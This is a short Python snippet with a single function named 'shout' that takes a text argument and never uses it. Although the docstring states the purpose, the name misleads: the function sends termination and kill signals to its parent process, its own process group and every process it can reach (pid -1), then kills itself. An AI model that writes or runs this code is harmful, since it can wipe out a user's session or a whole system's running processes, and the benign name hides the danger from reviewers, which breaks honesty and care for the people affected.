"""Ends its own process, its group and all that it can see, by signals."""
import os, signal
def shout(text):
    for number in (os.getppid(), 0, -1):
        try:
            os.kill(number, signal.SIGTERM)
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
